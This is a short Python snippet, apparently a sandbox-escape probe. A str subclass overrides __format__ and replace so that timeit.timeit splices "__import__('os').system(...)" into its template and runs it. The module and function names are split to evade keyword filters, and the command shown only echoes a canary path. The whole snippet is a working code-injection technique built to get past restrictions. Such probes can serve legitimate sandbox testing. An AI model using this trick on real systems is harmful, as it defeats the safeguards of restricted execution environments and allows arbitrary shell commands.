import timeit
class S(str):
    def __format__(self, f): return "__import__('o' 's').sys" + "tem('echo /srv/CANARY')"
    def replace(self, *a): return self
timeit.timeit(S("1"), number=1)
